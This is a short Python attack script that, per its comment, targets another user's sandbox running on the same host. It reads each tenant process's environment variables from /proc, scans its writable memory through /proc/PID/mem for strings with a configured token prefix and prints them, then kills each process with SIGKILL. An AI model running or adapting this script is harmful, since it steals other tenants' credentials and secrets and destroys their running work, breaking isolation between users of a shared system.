# Reads, signals and traces another user's sandbox, running beside it.
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for pid in TARGET["tenant_pids"]:
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError as error:
        print(pid, error)
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                span, rights = line.split()[:2]
                if rights.startswith("rw"):
                    first, last = (int(number, 16) for number in span.split("-"))
                    memory.seek(first)
                    text = memory.read(last - first)
                    at = text.find(TARGET["prefix"].encode() + b"-")
                    while at >= 0:
                        print(text[at : at + 64])
                        at = text.find(TARGET["prefix"].encode() + b"-", at + 1)
    except (OSError, OverflowError) as error:
        print(pid, error)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(pid, error)
